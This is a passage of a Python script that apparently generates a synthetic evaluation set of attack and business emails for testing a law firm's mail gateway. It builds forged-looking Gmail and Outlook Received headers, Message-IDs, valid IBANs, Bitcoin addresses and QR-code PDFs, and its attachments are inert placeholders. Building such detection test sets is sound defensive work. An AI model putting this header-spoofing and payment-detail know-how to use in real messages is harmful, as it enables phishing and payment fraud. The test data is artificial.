#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""
Deterministic generator for the Example Group mail-gateway evaluation set.
Writes ../attack/*.eml and ../business/*.eml relative to this script.
Python 3 standard library only; no network; no unseeded randomness.
All attachments are inert placeholders.
"""
import base64, hashlib, io, os, quopri, struct, zipfile, zlib, datetime, shutil

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

# ---------------------------------------------------------------- helpers
def h(*parts, n=16):
    """deterministic hex token"""
    return hashlib.sha256("|".join(str(p) for p in parts).encode()).hexdigest()[:n]

def hnum(*parts, n=6):
    return str(int(h(*parts, n=16), 16))[-n:].zfill(n)

def b32tok(*parts, n=14):
    a = "BCDFGHJKLMNPQRSTVWXYZ0123456789"
    x = int(h(*parts, n=24), 16)
    s = ""
    for _ in range(n):
        x, r = divmod(x, len(a)); s += a[r]
    return s

TZ = {"CET": 60, "EET": 120, "GMT": 0, "MSK": 180, "UTC": 0}

def rfcdate(ts, tzname):
    """ts = 'YYYY-MM-DD HH:MM:SS' in local time of tzname"""
    d = datetime.datetime.strptime(ts, "%Y-%m-%d %H:%M:%S")
    off = TZ[tzname]
    sign = "+" if off >= 0 else "-"
    wd = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"][d.weekday()]
    mo = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"][d.month - 1]
    return "%s, %d %s %d %02d:%02d:%02d %s%02d%02d" % (wd, d.day, mo, d.year, d.hour, d.minute, d.second,
                                                      sign, abs(off) // 60, abs(off) % 60)

def shift(ts, tzfrom, tzto, secs=0):
    d = datetime.datetime.strptime(ts, "%Y-%m-%d %H:%M:%S")
    d = d + datetime.timedelta(minutes=TZ[tzto] - TZ[tzfrom], seconds=secs)
    return d.strftime("%Y-%m-%d %H:%M:%S")

# ------------------------------------------------------------ RFC 2047
def _ew1(s, cs, enc):
    b = s.encode(cs)
    if enc == "B":
        return "=?%s?B?%s?=" % (cs, base64.b64encode(b).decode())
    out = ""
    for c in b:
        ch = chr(c)
        if ch == " ":
            out += "_"
        elif (ch.isalnum() and c < 128) or ch in "!*+-/":
            out += ch
        else:
            out += "=%02X" % c
    return "=?%s?Q?%s?=" % (cs, out)

def ew(s, cs="utf-8", enc="B"):
    if all(ord(c) < 128 for c in s):
        return s
    words, cur = [], ""
    for ch in s:
        if cur and len(_ew1(cur + ch, cs, enc)) > 74:
            words.append(_ew1(cur, cs, enc)); cur = ch
        else:
            cur += ch
    if cur:
        words.append(_ew1(cur, cs, enc))
    return "\r\n ".join(words)

def addr(name, email, cs="utf-8", enc="B"):
    if not name:
        return email if "<" in email else "<%s>" % email if False else email
    if all(ord(c) < 128 for c in name):
        if any(c in name for c in ',.;:()@"[]'):
            name = '"%s"' % name.replace('"', '\\"')
        return "%s <%s>" % (name, email)
    # display names: prefer a single encoded-word (many address parsers keep the
    # folding whitespace between adjacent encoded-words inside a phrase)
    for e in (enc, "B" if enc == "Q" else "Q"):
        w = _ew1(name, cs, e)
        if len(w) <= 75:
            return "%s <%s>" % (w, email)
    return "%s <%s>" % (ew(name, cs, enc), email)

# ------------------------------------------------------------- MIME tree
class Text:
    def __init__(self, text, subtype="plain", cs="utf-8", cte="quoted-printable", fmt_flowed=False):
        self.text, self.subtype, self.cs, self.cte, self.ff = text, subtype, cs, cte, fmt_flowed

class Att:
    def __init__(self, data, ctype, filename=None, disp="attachment", cid=None, cte="base64", fn_cs="utf-8"):
        self.data, self.ctype, self.filename, self.disp, self.cid, self.cte, self.fn_cs = \
            data, ctype, filename, disp, cid, cte, fn_cs

class Multi:
    def __init__(self, subtype, parts, extra=""):
        self.subtype, self.parts, self.extra = subtype, parts, extra

def encode_body(raw, cte):
    if cte == "base64":
        return base64.encodebytes(raw)
    if cte == "quoted-printable":
        return quopri.encodestring(raw)
    return raw  # 7bit / 8bit

def render(part, seed):
    """returns (header_lines list[str], body bytes)"""
    if isinstance(part, Text):
        raw = part.text.encode(part.cs)  # strict: fail loudly on unencodable text
        if part.cte == "7bit":
            assert all(c < 128 for c in raw), "7bit with non-ascii"
        ct = "Content-Type: text/%s; charset=\"%s\"" % (part.subtype, part.cs)
        if part.ff:
            ct += "; format=flowed"
        return [ct, "Content-Transfer-Encoding: " + part.cte], encode_body(raw, part.cte)
    if isinstance(part, Att):
        fn = part.filename
        hl = []
        if fn is not None:
            if all(ord(c) < 128 for c in fn):
                fnp = '"%s"' % fn
            else:
                fnp = '"%s"' % ew(fn, part.fn_cs, "B")
            hl.append("Content-Type: %s; name=%s" % (part.ctype, fnp))
            hl.append("Content-Disposition: %s; filename=%s" % (part.disp, fnp))
        else:
            hl.append("Content-Type: %s" % part.ctype)
            hl.append("Content-Disposition: %s" % part.disp)
        if part.cid:
            hl.append("Content-ID: <%s>" % part.cid)
        hl.append("Content-Transfer-Encoding: " + part.cte)
        return hl, encode_body(part.data, part.cte)
    # multipart
    bnd = "----=_Part_%s_%s" % (hnum(seed, "b", n=6), h(seed, "bnd", n=12)) if part.subtype != "alternative" \
        else "b1_%s" % h(seed, "alt", n=32)
    if part.extra == "gmail":
        bnd = "000000000000" + h(seed, "g", n=16)
    out = b""
    for i, p in enumerate(part.parts):
        hl, body = render(p, seed + "/%d" % i)
        out += b"--" + bnd.encode() + b"\n" + "\n".join(hl).encode() + b"\n\n" + body
        if not body.endswith(b"\n"):
            out += b"\n"
    out += b"--" + bnd.encode() + b"--\n"
    ct = 'Content-Type: multipart/%s;\n\tboundary="%s"' % (part.subtype, bnd)
    if part.subtype == "related":
        ct += ';\n\ttype="text/html"'
    if part.extra == "gmail" or "/" in seed:
        return [ct], out
    return [ct], b"This is a multi-part message in MIME format.\n\n" + out

# ------------------------------------------------------------ IBAN etc.
def _mod97(s):
    n = ""
    for c in s:
        n += str(int(c, 36))
    return int(n) % 97

def iban(cc, bban):
    chk = 98 - _mod97(bban + cc + "00")
    ib = "%s%02d%s" % (cc, chk, bban)
    assert _mod97(ib[4:] + ib[:4]) == 1
    return ib

def fmt_iban(ib):
    return " ".join(ib[i:i + 4] for i in range(0, len(ib), 4))

def de_iban(blz, konto):
    return iban("DE", blz + konto.zfill(10))

_IT_ODD = [1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3, 6, 8, 12, 14, 16, 10, 22, 25, 24, 23]
def it_cin(s):
    tot = 0
    for i, c in enumerate(s):
        v = int(c) if c.isdigit() else ord(c) - 65
        tot += _IT_ODD[v] if i % 2 == 0 else v
    return chr(65 + tot % 26)

def it_iban(abi, cab, conto):
    conto = conto.zfill(12)
    return iban("IT", it_cin(abi + cab + conto) + abi + cab + conto)

def _es_dc(ten):
    w = [1, 2, 4, 8, 5, 10, 9, 7, 3, 6]
    d = 11 - sum(int(a) * b for a, b in zip(ten, w)) % 11
    return {11: 0, 10: 1}.get(d, d)

def es_iban(bank, branch, acct):
    dc = "%d%d" % (_es_dc("00" + bank + branch), _es_dc(acct))
    return iban("ES", bank + branch + dc + acct)

def pl_iban(sort7, acct16):
    w = [3, 9, 7, 1, 3, 9, 7]
    c = (10 - sum(int(a) * b for a, b in zip(sort7, w)) % 10) % 10
    return iban("PL", sort7 + str(c) + acct16)

def gr_iban(bank, branch, acct):
    return iban("GR", bank + branch + acct.zfill(16))

def gb_iban(bic4, sort6, acct8):
    return iban("GB", bic4 + sort6 + acct8)

def cy_iban(bank, branch, acct):
    return iban("CY", bank + branch + acct.zfill(16))

def lt_iban(bank, acct):
    return iban("LT", bank + acct.zfill(11))

def ru_account(bik, acct19_with_x):
    """acct has 'X' at position 9 (index 8) = control key; weights 7,1,3 over bik[-3:]+acct"""
    w = [7, 1, 3] * 8
    for k in range(10):
        a = acct19_with_x.replace("X", str(k))
        s = bik[-3:] + a
        if sum(int(c) * w[i] for i, c in enumerate(s)) % 10 == 0:
            return a
    raise ValueError

def ru_inn10(nine):
    w = [2, 4, 10, 3, 5, 9, 4, 6, 8]
    return nine + str(sum(int(a) * b for a, b in zip(nine, w)) % 11 % 10)

# -------------------------------------------------------- bech32 (BIP-173)
_B32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"
def _polymod(values):
    gen = [0x3b6a57b2, 0x26508e6d, 0x1ea119fa, 0x3d4233dd, 0x2a1462b3]
    chk = 1
    for v in values:
        b = chk >> 25
        chk = (chk & 0x1ffffff) << 5 ^ v
        for i in range(5):
            chk ^= gen[i] if ((b >> i) & 1) else 0
    return chk

def _hrp_exp(hrp):
    return [ord(x) >> 5 for x in hrp] + [0] + [ord(x) & 31 for x in hrp]

def _convertbits(data, frm, to):
    acc = bits = 0; ret = []; maxv = (1 << to) - 1
    for v in data:
        acc = (acc << frm) | v; bits += frm
        while bits >= to:
            bits -= to; ret.append((acc >> bits) & maxv)
    if bits:
        ret.append((acc << (to - bits)) & maxv)
    return ret

def btc_p2wpkh(seed):
    prog = hashlib.sha256(seed.encode()).digest()[:20]
    data = [0] + _convertbits(prog, 8, 5)
    pm = _polymod(_hrp_exp("bc") + data + [0] * 6) ^ 1
    chk = [(pm >> 5 * (5 - i)) & 31 for i in range(6)]
    addr_ = "bc1" + "".join(_B32[d] for d in data + chk)
    assert _polymod(_hrp_exp("bc") + [_B32.index(c) for c in addr_[3:]]) == 1
    return addr_

# ------------------------------------------------------------ QR encoder
# byte mode, ECC level M, versions 1..10 (ISO/IEC 18004)
_ECC_M = [None, 10, 16, 26, 18, 24, 16, 18, 22, 22, 26]
_BLK_M = [None, 1, 1, 1, 2, 2, 4, 4, 4, 5, 5]

def _gf_mul(x, y):
    z = 0
    for i in range(7, -1, -1):
        z = (z << 1) ^ ((z >> 7) * 0x11D)
        z ^= ((y >> i) & 1) * x
    return z

def _rs_div(deg):
    res = [0] * (deg - 1) + [1]
    root = 1
    for _ in range(deg):
        for j in range(deg):
            res[j] = _gf_mul(res[j], root)
            if j + 1 < deg:
                res[j] ^= res[j + 1]
        root = _gf_mul(root, 2)
    return res

def _rs_rem(data, div):
    res = [0] * len(div)
    for b in data:
        f = b ^ res.pop(0); res.append(0)
        for i, c in enumerate(div):
            res[i] ^= _gf_mul(c, f)
    return res

def _raw_modules(ver):
    r = (16 * ver + 128) * ver + 64
    if ver >= 2:
        na = ver // 7 + 2
        r -= (25 * na - 10) * na - 55
        if ver >= 7:
            r -= 36
    return r

def _align_pos(ver):
    if ver == 1:
        return []
    na = ver // 7 + 2
    size = ver * 4 + 17
    step = (ver * 8 + na * 3 + 5) // (na * 4 - 4) * 2
    res = [size - 7 - i * step for i in range(na - 1)]
    return [6] + sorted(res)

def qr_matrix(text):
    data = text.encode("utf-8")
    for ver in range(1, 11):
        cap = _raw_modules(ver) // 8 - _ECC_M[ver] * _BLK_M[ver]
        cc_bits = 8 if ver < 10 else 16
        if 4 + cc_bits + 8 * len(data) <= cap * 8:
            break
    else:
        raise ValueError("too long for QR v10")
    size = ver * 4 + 17
    bits = []
    def app(v, n):
        for i in range(n - 1, -1, -1):
            bits.append((v >> i) & 1)
    app(4, 4); app(len(data), cc_bits)
    for b in data:
        app(b, 8)
    app(0, min(4, cap * 8 - len(bits)))
    app(0, (-len(bits)) % 8)
    pad = 0xEC
    while len(bits) < cap * 8:
        app(pad, 8); pad ^= 0xEC ^ 0x11
    dcw = [int("".join(map(str, bits[i:i + 8])), 2) for i in range(0, len(bits), 8)]
    # ECC + interleave
    nb, el = _BLK_M[ver], _ECC_M[ver]
    raw = _raw_modules(ver) // 8
    nshort = nb - raw % nb
    slen = raw // nb
    div = _rs_div(el)
    blocks, k = [], 0
    for i in range(nb):
        dat = dcw[k:k + slen - el + (0 if i < nshort else 1)]
        k += len(dat)
        ecc = _rs_rem(dat, div)
        if i < nshort:
            dat = dat + [0]
        blocks.append(dat + ecc)
    final = []
    for i in range(len(blocks[0])):
        for j, blk in enumerate(blocks):
            if i != slen - el or j >= nshort:
                final.append(blk[i])
    # function patterns
    M = [[False] * size for _ in range(size)]
    F = [[False] * size for _ in range(size)]
    def setf(x, y, d):
        M[y][x] = d; F[y][x] = True
    for i in range(size):
        setf(6, i, i % 2 == 0); setf(i, 6, i % 2 == 0)
    for cx, cy in ((3, 3), (size - 4, 3), (3, size - 4)):
        for dy in range(-4, 5):
            for dx in range(-4, 5):
                x, y = cx + dx, cy + dy
                if 0 <= x < size and 0 <= y < size:
                    setf(x, y, max(abs(dx), abs(dy)) not in (2, 4))
    ap = _align_pos(ver)
    for i in range(len(ap)):
        for j in range(len(ap)):
            if (i == 0 and j == 0) or (i == 0 and j == len(ap) - 1) or (i == len(ap) - 1 and j == 0):
                continue
            for dy in range(-2, 3):
                for dx in range(-2, 3):
                    setf(ap[i] + dx, ap[j] + dy, max(abs(dx), abs(dy)) != 1)
    def draw_format(mask):
        d = (0 << 3) | mask  # ECC M = 0b00
        rem = d
        for _ in range(10):
            rem = (rem << 1) ^ ((rem >> 9) * 0x537)
        b = (d << 10 | rem) ^ 0x5412
        g = lambda i: ((b >> i) & 1) != 0
        for i in range(6):
            setf(8, i, g(i))
        setf(8, 7, g(6)); setf(8, 8, g(7)); setf(7, 8, g(8))
        for i in range(9, 15):
            setf(14 - i, 8, g(i))
        for i in range(8):
            setf(size - 1 - i, 8, g(i))
        for i in range(8, 15):
            setf(8, size - 15 + i, g(i))
        setf(8, size - 8, True)
    draw_format(0)
    if ver >= 7:
        rem = ver
        for _ in range(12):
            rem = (rem << 1) ^ ((rem >> 11) * 0x1F25)
        vb = ver << 12 | rem
        for i in range(18):
            bit = ((vb >> i) & 1) != 0
            a, b_ = size - 11 + i % 3, i // 3
            setf(a, b_, bit); setf(b_, a, bit)
    # data placement
    i = 0
    right = size - 1
    while right >= 1:
        if right == 6:
            right = 5
        for vert in range(size):
            for j in range(2):
                x = right - j
                up = ((right + 1) & 2) == 0
                y = size - 1 - vert if up else vert
                if not F[y][x] and i < len(final) * 8:
                    M[y][x] = ((final[i >> 3] >> (7 - (i & 7))) & 1) != 0
                    i += 1
        right -= 2
    masks = [lambda x, y: (x + y) % 2 == 0, lambda x, y: y % 2 == 0, lambda x, y: x % 3 == 0,
             lambda x, y: (x + y) % 3 == 0, lambda x, y: (x // 3 + y // 2) % 2 == 0,
             lambda x, y: x * y % 2 + x * y % 3 == 0, lambda x, y: (x * y % 2 + x * y % 3) % 2 == 0,
             lambda x, y: ((x + y) % 2 + x * y % 3) % 2 == 0]
    def apply(m):
        for y in range(size):
            for x in range(size):
                if not F[y][x] and masks[m](x, y):
                    M[y][x] = not M[y][x]
    def penalty():
        p = 0
        for grid in (M, [list(c) for c in zip(*M)]):
            for row in grid:
                run, prev = 0, None
                for v in row:
                    if v == prev:
                        run += 1
                    else:
                        if run >= 5:
                            p += run - 2
                        run, prev = 1, v
                if run >= 5:
                    p += run - 2
                s = "".join("1" if v else "0" for v in row)
                p += 40 * (s.count("10111010000") + s.count("00001011101"))
        for y in range(size - 1):
            for x in range(size - 1):
                if M[y][x] == M[y][x + 1] == M[y + 1][x] == M[y + 1][x + 1]:
                    p += 3
        dark = sum(v for r in M for v in r)
        p += (abs(dark * 20 - size * size * 10) + size * size - 1) // (size * size) * 10
        return p
    best = None
    for m in range(8):
        apply(m); draw_format(m)
        pen = penalty()
        if best is None or pen < best[0]:
            best = (pen, m)
        apply(m)
    apply(best[1]); draw_format(best[1])
    return M

def qr_pixels(text, scale=6, quiet=4):
    M = qr_matrix(text)
    n = len(M)
    W = (n + 2 * quiet) * scale
    rows = []
    for py in range(W):
        my = py // scale - quiet
        row = bytearray()
        for px in range(W):
            mx = px // scale - quiet
            dark = 0 <= mx < n and 0 <= my < n and M[my][mx]
            row.append(0 if dark else 255)
        rows.append(bytes(row))
    return W, rows

def png_gray(W, rows):
    raw = b"".join(b"\x00" + r for r in rows)
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", W, W, 8, 0, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))

def qr_png(text, scale=6):
    W, rows = qr_pixels(text, scale)
    return png_gray(W, rows)

# ------------------------------------------------------------- PDF / ZIP
def _pdf_esc(s):
    return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")

def pdf(lines, title="Document", qr=None):
    """minimal valid one-page PDF (inert placeholder). lines must be latin-1 encodable.
    qr: optional URL rendered as an image XObject (QR code) below the text."""
    txt = "BT /F1 11 Tf 56 790 Td 15 TL\n"
    for l in lines:
        txt += "(%s) '\n" % _pdf_esc(l)
    txt += "ET\n"
    objs = []
    res = "/Font << /F1 4 0 R >>"
    if qr:
        W, rows = qr_pixels(qr, scale=4, quiet=4)
        img = zlib.compress(b"".join(rows))
        res += " /XObject << /Im1 6 0 R >>"
        txt += "q 180 0 0 180 56 %d cm /Im1 Do Q\n" % (760 - 15 * len(lines) - 200)
    content = txt.encode("latin-1")
    objs.append(b"<< /Type /Catalog /Pages 2 0 R >>")
    objs.append(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    objs.append(("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << %s >> /Contents 5 0 R >>" % res).encode())
    objs.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
    objs.append(b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream")
    if qr:
        objs.append(b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
                    b"/BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n" % (W, W, len(img)) + img + b"\nendstream")
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offs = []
    for i, o in enumerate(objs):
        offs.append(len(out))
        out += b"%d 0 obj\n" % (i + 1) + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offs:
        out += b"%010d 00000 n \n" % o
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info << /Title (%s) /Producer (placeholder) >> >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objs) + 1, _pdf_esc(title).encode("latin-1"), xref)
    return out

def zipf(files):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=(2026, 11, 2, 8, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return bio.getvalue()

INERT = ("// INERT TEST PLACEHOLDER - Example Group gateway evaluation set.\n"
         "// This file stands in for a malicious script/loader. It does nothing.\n")

# ------------------------------------------------------------- messages
MESSAGES = []

def msg(folder, fn, lang, cs_note, what, why, rcpt, date, tz, mx, rp, hdrs, body,
        relay=(), delay=7):
    """mx = (helo, rdns, ip); relay = extra Received lines (sender side, top-down)
    date = sender-local 'YYYY-MM-DD HH:MM:SS'; tz = sender tz name"""
    MESSAGES.append(dict(folder=folder, fn=fn, lang=lang, cs=cs_note, what=what, why=why,
                         rcpt=rcpt, date=date, tz=tz, mx=mx, rp=rp, hdrs=hdrs, body=body,
                         relay=relay, delay=delay))

def build_one(m):
    seed = m["fn"]
    rcv_local = shift(m["date"], m["tz"], "CET", m["delay"])
    helo, rdns, ip = m["mx"]
    qid = b32tok(seed, "qid", n=12)
    if ip.startswith("10."):
        top = ("Received: from %s (%s [%s])\n\tby mx01.example.com (Postfix) with ESMTPS id %s\n\t"
               "for <%s>; %s (CET)") % (helo, rdns, ip, qid, m["rcpt"], rfcdate(rcv_local, "CET"))
    else:
        top = ("Received: from %s (%s [%s])\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n\t"
               " key-exchange X25519 server-signature RSA-PSS (2048 bits))\n\t(No client certificate requested)\n\t"
               "by mx01.example.com (Postfix) with ESMTPS id %s\n\tfor <%s>; %s (CET)") % (
            helo, rdns, ip, qid, m["rcpt"], rfcdate(rcv_local, "CET"))
        if m.get("notls"):
            pass
    lines = ["Return-Path: <%s>" % m["rp"], top]
    for r in m["relay"]:
        r = r.replace("{DATE}", rfcdate(m["date"], m["tz"]))
        r = r.replace("{DATE+2}", rfcdate(shift(m["date"], m["tz"], m["tz"], 2), m["tz"]))
        r = r.replace("{DATEUTC}", rfcdate(shift(m["date"], m["tz"], "UTC", 1), "UTC"))
        r = r.replace("{DATECET}", rfcdate(shift(m["date"], m["tz"], "CET", 3), "CET"))
        lines.append(r)
    hl, body = render(m["body"], seed)
    for k, v in m["hdrs"]:
        if v is None:
            continue
        v = v.replace("{DATE}", rfcdate(m["date"], m["tz"]))
        lines.append("%s: %s" % (k, v))
    if not any(k == "MIME-Version" for k, _ in m["hdrs"]):
        lines.append("MIME-Version: 1.0")
    lines += hl
    head = "\n".join(lines).replace("\r\n", "\n") + "\n\n"
    raw = head.encode("ascii") + body
    raw = raw.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    return raw

# ================================================================ company
STAFF = [
    # name, address, office, role
    ("Dr. Klaus Hoffmann", "klaus.hoffmann@example.com", "Frankfurt (HQ)", "Managing Partner"),
    ("Dr. Julia Weber", "julia.weber@example.com", "Frankfurt (HQ)", "Partner, Corporate/M&A"),
    ("Markus Schneider", "markus.schneider@example.com", "Frankfurt (HQ)", "Partner, Real Estate"),
    ("Miriam Schulz", "miriam.schulz@example.com", "Frankfurt (HQ)", "Senior Associate, Litigation"),
    ("Sabine Krüger", "sabine.krueger@example.com", "Frankfurt (HQ)", "CFO"),
    ("Thomas Becker", "thomas.becker@example.com", "Frankfurt (HQ)", "Accounts Payable"),
    ("Petra Wagner", "petra.wagner@example.com", "Frankfurt (HQ)", "Client-Account (Anderkonten) Bookkeeping"),
    ("Lena Fischer", "lena.fischer@example.com", "Frankfurt (HQ)", "HR Manager"),
    ("Jan Richter", "jan.richter@example.com", "Frankfurt (HQ)", "Head of IT"),
    ("Nadine Koch", "nadine.koch@example.com", "Frankfurt (HQ)", "Office Manager / Paralegal"),
    ("Francesca Romano", "francesca.romano@example.com", "Milan", "Partner (Avvocato), office head"),
    ("Luca Bianchi", "luca.bianchi@example.com", "Milan", "Associate (Avvocato), litigation"),
    ("Giulia Ricci", "giulia.ricci@example.com", "Milan", "Office Manager & local accounting"),
    ("Agnieszka Nowak", "agnieszka.nowak@example.com", "Warsaw", "Partner (radca prawny), office head"),
    ("Piotr Wiśniewski", "piotr.wisniewski@example.com", "Warsaw", "Associate (adwokat), litigation"),
    ("Katarzyna Kowalczyk", "katarzyna.kowalczyk@examplegroup.eu", "Warsaw", "Local accounting (główna księgowa)"),
    ("Javier Martínez", "javier.martinez@example.com", "Madrid", "Partner (abogado), office head"),
    ("Lucía Fernández", "lucia.fernandez@example.com", "Madrid", "Paralegal / Office Manager"),
    ("Carmen Ruiz", "carmen.ruiz@examplegroup.eu", "Madrid", "Local accounting"),
    ("Nikolaos Papadopoulos", "nikolaos.papadopoulos@example.com", "Athens", "Partner (δικηγόρος), office head"),
    ("Eleni Georgiou", "eleni.georgiou@example.com", "Athens", "Office Manager & local accounting"),
    ("Dimitris Karagiannis", "dimitris.karagiannis@examplegroup.eu", "Athens", "Associate, real estate"),
    ("James Whitfield", "james.whitfield@example.com", "London", "Partner (Solicitor), real estate, office head"),
    ("Sarah Collins", "sarah.collins@example.com", "London", "Associate (Solicitor), conveyancing/litigation"),
    ("Oliver Hughes", "oliver.hughes@example.com", "London", "Office Manager & local accounts"),
    ("Andrei Volkov", "andrei.volkov@example.com", "Moscow", "Partner, office head"),
    ("Olga Smirnova", "olga.smirnova@examplegroup.eu", "Moscow", "Chief accountant (главный бухгалтер)"),
    ("Irina Kuznetsova", "irina.kuznetsova@example.com", "Moscow", "Associate / paralegal"),
]

CORRESPONDENTS = [
    ("Lieferant GmbH, Eschborn", "Stefan Maier <s.maier@lieferant-gmbh.de>, Buchhaltung <rechnungen@lieferant-gmbh.de>",
     "IT hardware and office-equipment supplier of the Frankfurt HQ"),
    ("Ferretti Trasporti S.p.A., Segrate (MI)", "Chiara Colombo <c.colombo@ferretti-trasporti.it>, <amministrazione@ferretti-trasporti.it>",
     "courier, file-archive storage and office-removal services for the Milan office"),
    ("Partner Logistik sp. z o.o., Warszawa", "Tadeusz Zieliński <t.zielinski@partner-logistik.pl>, <ksiegowosc@partner-logistik.pl>",
     "archive logistics / document courier for the Warsaw office"),
    ("Notar Dr. Friedrich Albrecht, Frankfurt", "kanzlei@notar-albrecht.de", "notary for real-estate closings"),
    ("Rheinhafen Immobilien AG, Mainz", "Dr. Carsten Vogel <c.vogel@rheinhafen-immobilien.de>", "real-estate client (HQ)"),
    ("Meridian Estates Ltd, London", "Rebecca Lang <rebecca.lang@meridian-estates.co.uk>, finance@", "UK property client"),
    ("Harwood & Lane Solicitors LLP", "Emma Price <emma.price@harwoodlane.co.uk>", "counterparty conveyancers (UK)"),
    ("Marsh Forensic Accounting Ltd", "Dr Helen Marsh <helen.marsh@marshforensic.co.uk>", "expert witness (UK litigation)"),
    ("4 Kingsway Chambers", "clerks@4kingsway.co.uk", "barristers' chambers (UK)"),
    ("Notaio Marco Galli, Milano", "studio@notaiogalli.it", "notary (Milan)"),
    ("Notaría López Pineda, Madrid", "Rocío Sanz <rsanz@notarialopezpineda.es>", "notary (Madrid)"),
    ("Procuradora María José Ortega", "mjortega@procuradoraortega.es", "court agent (procuradora), Madrid"),
    ("Wisła Development S.A.", "Marek Dąbrowski <m.dabrowski@wisla-development.pl>", "real-estate developer client (Warsaw)"),
    ("Λεξικόν Μεταφραστική", "info@lexikon-translations.gr", "certified translations (Athens)"),
    ("Dr. Ioannis Alexiou", "i.alexiou@alexiou-engineers.gr", "court-appointed technical expert (Athens)"),
    ("ООО «СеверСтройИнвест»", "Сергей Морозов <s.morozov@severstroyinvest.ru>", "client (Moscow)"),
    ("Адвокатское бюро «Лебедев и партнёры»", "Наталья Лебедева <n.lebedeva@lebedev-partners.ru>", "opposing counsel (Moscow)"),
    ("Kessler Immobilien GmbH, Frankfurt", "Sandra Kessler <s.kessler@kessler-immobilien.de>", "estate agent in a real-estate deal (mailbox compromised in attack 05)"),
    ("Logística Henares, S.L.", "Ana Navarro <a.navarro@logisticahenares.es>", "client (Madrid)"),
    ("Κωνσταντίνος Σταύρου", "k.stavrou62@gmail.com", "private client (Athens), always writes from Gmail"),
    ("Meridian Estates Ltd - finance", "Tom Ashworth <tom.ashworth@meridian-estates.co.uk>", "client finance director (London)"),
]

# ------------------------------------------------------- providers / IDs
def mid_gmail(s):
    return "<CA%s%s@mail.gmail.com>" % (base64.b64encode(hashlib.sha256(s.encode()).digest()[:27]).decode()
                                        .replace("/", "_").replace("+", "-"), "")

def mid_ol(s, pfx="AM9PR07MB"):
    n = hnum(s, "ol", n=4)
    return "<%s%s%s@%s%s.eurprd07.prod.outlook.com>" % (pfx, n, h(s, "m", n=24).upper(), pfx, n)

def mid_uuid(s, dom):
    x = h(s, "uuid", n=32)
    return "<%s-%s-%s-%s-%s@%s>" % (x[:8], x[8:12], x[12:16], x[16:20], x[20:], dom)

def mid_dom(s, dom, fmt="%s.%s"):
    return "<%s@%s>" % (fmt % (hnum(s, "t", n=10), h(s, "d", n=10)), dom)

def gmail(s, rcpt, node="wm1-f54", ip="209.85.128.54"):
    host = "mail-%s.google.com" % node
    rel = ["Received: by %s with SMTP id 5b1f17b1804b1-%s.%d\n\tfor <%s>; {DATE}" % (
        host, h(s, "gsmtp", n=16) + "so" + hnum(s, "g", n=7) + "f8f", 1, rcpt)]
    return (host, host, ip), rel

def o365(s, node, ip, pfx="AM9PR07MB"):
    helo = "EUR%s-obe.outbound.protection.outlook.com" % node.split("|")[0]
    rdns = "mail-%s.outbound.protection.outlook.com" % node.split("|")[1]
    n = hnum(s, "ol", n=4)
    rel = ["Received: from %s%s.eurprd07.prod.outlook.com\n\t([fe80::%s:%s:%s:%s]) by %s%s.eurprd07.prod.outlook.com\n\t"
           "([fe80::%s:%s:%s:%s%%4]) with mapi id 15.20.8722.021; {DATE}" % (
               pfx, n, h(s, 1, n=4), h(s, 2, n=4), h(s, 3, n=4), h(s, 4, n=4), pfx, n,
               h(s, 1, n=4), h(s, 2, n=4), h(s, 3, n=4), h(s, 4, n=4))]
    return (helo, rdns, ip), rel

def hotmail(s, ip="40.92.58.81"):
    helo = "EUR02-VI1-obe.outbound.protection.outlook.com"
    rdns = "mail-vi1eur02olkn20%s.outbound.protection.outlook.com" % ip.split(".")[-1]
    rel = ["Received: from PA4P192MB%s.EURP192.PROD.OUTLOOK.COM (2603:10a6:102:%s::12)\n\tby "
           "PA4P192MB%s.EURP192.PROD.OUTLOOK.COM with Microsoft SMTP Server (version=TLS1_2,\n\t"
           "cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8722.18; {DATE}" % (
               hnum(s, "a", n=4), h(s, "b", n=3), hnum(s, "a", n=4))]
    return (helo, rdns, ip), rel

INTERNAL = ("mail-int01.example.com", "mail-int01.example.com", "10.20.0.25")

def internal_rel(s, client_ip="10.20.14.37", host="FRA-NB-0412"):
    return ["Received: from %s.corp.example.com (%s) by mail-int01.example.com\n\t(Postfix) with ESMTPSA id %s; {DATE}"
            % (host, client_ip, b32tok(s, "int", n=11))]

def sendgrid(s, dom, ip="149.72.154.87"):
    return ("o%s.ptr%s.%s" % (hnum(s, "o", n=2), hnum(s, "p", n=4), dom), "wrqvbxkp.outbound-mail.sendgrid.net", ip), \
